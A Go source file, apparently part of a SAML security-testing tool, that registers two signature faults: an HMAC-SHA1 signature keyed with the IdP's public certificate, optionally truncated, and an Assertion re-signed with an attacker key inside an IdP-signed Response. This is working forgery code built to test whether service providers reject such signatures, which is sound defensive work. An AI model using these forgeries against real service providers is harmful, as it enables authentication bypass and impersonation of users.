package fault

import (
	"crypto/hmac"
	"crypto/sha1"
	"encoding/base64"
	"fmt"
	"strconv"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"
	"github.com/russellhaering/goxmldsig/etreeutils"
)

// Signature faults added for the attack catalogue's coverage: an HMAC
// signature keyed with the IdP's public certificate (sig-hmac-key-confusion,
// sig-hmac-truncation) and an Assertion signed by an attacker inside a
// Response the IdP signs (sig-inner-assertion-signed-by-attacker).

const (
	covNSDSig   = "http://www.w3.org/2000/09/xmldsig#"
	covHMACSHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
)

func init() {
	registerHMACSignature()
	registerSignAssertionWith()
}

func registerHMACSignature() {
	Register(Spec{
		Name: "hmac-signature", Stage: StagePostSign,
		Summary: "replace the Response signature by an HMAC-SHA1 over its SignedInfo keyed with the IdP certificate's public DER bytes (sig-hmac-key-confusion); bits>0 adds HMACOutputLength and truncates the value (sig-hmac-truncation). The SP must refuse HMAC signature methods",
		Params: []ParamSpec{
			{Name: "bits", Default: "0", Summary: "HMACOutputLength in bits (a multiple of 8); 0 leaves it out and keeps the full 160-bit value"},
		},
		Apply: applyHMACSignature,
	})
}

func applyHMACSignature(c *Context, f Fault) error {
	bits, err := strconv.Atoi(f.Param("bits", "0"))
	if err != nil || bits < 0 || bits > 160 || bits%8 != 0 {
		return fmt.Errorf("hmac-signature: bits %q must be a multiple of 8 between 0 and 160", f.Param("bits", "0"))
	}
	if c.Doc == nil || c.Doc.Root() == nil || c.Signer == nil || c.Plan == nil {
		return fmt.Errorf("hmac-signature needs the signed document, the signer and the plan")
	}
	sig := covChild(c.Doc.Root(), covNSDSig, "Signature")
	if sig == nil {
		return fmt.Errorf("hmac-signature: the Response is not signed (sign it, e.g. with the app's default settings)")
	}
	si := covChild(sig, covNSDSig, "SignedInfo")
	sv := covChild(sig, covNSDSig, "SignatureValue")
	if si == nil || sv == nil {
		return fmt.Errorf("hmac-signature: the Response signature has no SignedInfo or SignatureValue")
	}
	method := covChild(si, covNSDSig, "SignatureMethod")
	if method == nil {
		return fmt.Errorf("hmac-signature: SignedInfo has no SignatureMethod")
	}
	method.CreateAttr("Algorithm", covHMACSHA1)
	for _, ch := range method.ChildElements() {
		method.RemoveChild(ch)
	}
	if bits > 0 {
		l := method.CreateElement(prefixed(method.Space, "HMACOutputLength"))
		l.SetText(strconv.Itoa(bits))
	}
	nsCtx, err := etreeutils.NSBuildParentContext(si)
	if err != nil {
		return fmt.Errorf("hmac-signature: namespaces of SignedInfo: %w", err)
	}
	detached, err := etreeutils.NSDetatch(nsCtx, si)
	if err != nil {
		return fmt.Errorf("hmac-signature: detaching SignedInfo: %w", err)
	}
	canon, err := dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("").Canonicalize(detached)
	if err != nil {
		return fmt.Errorf("hmac-signature: canonicalizing SignedInfo: %w", err)
	}
	cert := c.Signer.Certificate(*c.Plan)
	if cert == nil {
		return fmt.Errorf("hmac-signature: the signer has no certificate for the plan")
	}
	mac := hmac.New(sha1.New, cert.Raw)
	mac.Write(canon)
	value := mac.Sum(nil)
	if bits > 0 {
		value = value[:bits/8]
	}
	sv.SetText(base64.StdEncoding.EncodeToString(value))
	return nil
}

func registerSignAssertionWith() {
	Register(Spec{
		Name: "sign-assertion-with", Stage: StagePostSign, Resigns: true,
		Summary: "re-sign the first Assertion with another key (attacker: a key the SP does not trust, its certificate in KeyInfo), then re-sign the Response with the IdP's key, so a valid IdP Response signature encloses an attacker-signed Assertion (sig-inner-assertion-signed-by-attacker): the SP must verify every signature present",
		Params: []ParamSpec{
			{Name: "key", Default: "attacker", Values: []string{"attacker", KeyRotated, KeyWeak1024}, Summary: "the key that signs the Assertion"},
		},
		Apply: applySignAssertionWith,
	})
}

func applySignAssertionWith(c *Context, f Fault) error {
	if c.Doc == nil || c.Doc.Root() == nil || c.Signer == nil || c.Plan == nil {
		return fmt.Errorf("sign-assertion-with needs the signed document, the signer and the plan")
	}
	root := c.Doc.Root()
	assertion := covChild(root, "urn:oasis:names:tc:SAML:2.0:assertion", "Assertion")
	if assertion == nil {
		return fmt.Errorf("sign-assertion-with: the Response carries no plaintext Assertion")
	}
	inner := *c.Plan
	inner.Key = f.Param("key", "attacker")
	if err := c.Signer.SignElement(assertion, inner); err != nil {
		return fmt.Errorf("sign-assertion-with: signing the Assertion: %w", err)
	}
	outer := *c.Plan
	if outer.Key == "" {
		outer.Key = "active"
	}
	if err := c.Signer.SignElement(root, outer); err != nil {
		return fmt.Errorf("sign-assertion-with: re-signing the Response: %w", err)
	}
	return nil
}

// covChild returns el's first child element in namespace ns named local.
func covChild(el *etree.Element, ns, local string) *etree.Element {
	for _, ch := range el.ChildElements() {
		if ch.Tag == local && ch.NamespaceURI() == ns {
			return ch
		}
	}
	return nil
}

func prefixed(prefix, local string) string {
	if prefix == "" {
		return local
	}
	return prefix + ":" + local
}
